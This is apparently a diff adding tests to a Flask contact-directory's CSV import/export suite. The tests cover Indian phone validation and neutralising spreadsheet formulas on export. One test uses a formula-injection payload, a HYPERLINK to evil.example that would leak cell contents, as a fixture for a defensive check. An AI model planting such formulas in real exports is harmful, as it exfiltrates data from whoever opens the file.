@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from pathlib import Path
 from typing import Any
@@ -155,6 +156,17 @@ def test_it_imports_nothing_when_a_row_is_bad(
     assert count(session) == 10
 
 
+def test_it_takes_indian_phone_numbers_only_in_any_digits(
+    client: FlaskClient, session: Session, district: dict[str, User]
+) -> None:
+    login(client, "admin")
+    response = upload(client, HEADER + "Surajpur,Jayanagar,anm,Foreign,+1 415 555 0100,yes\n")
+    assert response.status_code == 400
+    assert "line 2: invalid phone number &#39;+1 415 555 0100&#39;" in response.get_data(as_text=True)
+    assert upload(client, HEADER + "Surajpur,Jayanagar,anm,Devanagari,९४२५२ ००००१,yes\n").status_code == 302
+    assert [c.phone for c in search_contacts(session, "Devanagari")] == ["+919425200001"]
+
+
 def test_it_reports_missing_columns_and_files_that_are_not_csv(
     client: FlaskClient, session: Session, district: dict[str, User]
 ) -> None:
@@ -189,6 +201,27 @@ def test_it_exports_what_it_imports(client: FlaskClient, session: Session, distr
     assert after == before
     out = io.StringIO()
     assert export_contacts(session, out) == 10 and out.getvalue() == text
+
+
+def test_it_exports_formulas_inert_and_loads_them_back_as_written(
+    client: FlaskClient, session: Session, district: dict[str, User]
+) -> None:
+    login(client, "admin")
+    formula = '=HYPERLINK("http://evil.example/?x="&A1;"Click")'
+    text = HEADER + f'Surajpur,Jayanagar,anm,"{formula.replace(chr(34), chr(34) * 2)}",9425200001,yes\n'
+    text += "Surajpur,Jayanagar,anm,@SUM(1+1),9425200002,yes\n"
+    assert upload(client, text).status_code == 302
+    exported = client.get("/directory/export.csv").get_data().decode("utf-8-sig")
+    rows = {r["phone"]: r for r in csv.DictReader(io.StringIO(exported))}
+    assert rows["+919425200001"]["name"] == "'" + formula  # a spreadsheet shows it, never runs it
+    assert rows["+919425200002"]["name"] == "'@SUM(1+1)"
+    assert rows["+919425200001"]["village"] == "Jayanagar"  # plain text is untouched
+    assert upload(client, exported).status_code == 302  # the export loads back unchanged
+    session.expire_all()
+    assert {c.name for c in session.scalars(select(Contact).where(Contact.phone.like("+9194252000%")))} == {
+        formula,
+        "@SUM(1+1)",
+    }
 
 
 @pytest.mark.parametrize("username", ["operator", "dm", "cmho"])
